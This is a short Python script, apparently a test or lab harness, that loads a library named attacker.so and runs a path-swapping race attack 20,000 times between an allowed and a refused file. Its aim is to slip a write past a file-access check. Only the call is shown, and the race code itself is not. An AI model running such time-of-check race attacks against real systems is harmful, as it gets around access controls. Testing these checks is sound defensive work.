"""A second thread flips the path 20,000 times between two files, one of them refused."""
import ctypes

attacker = ctypes.CDLL("./attacker.so")
attacker.attack(5, (ctypes.c_char_p * 6)(b"race-path", b"write", b"./open", b"./shut", b"20000"))
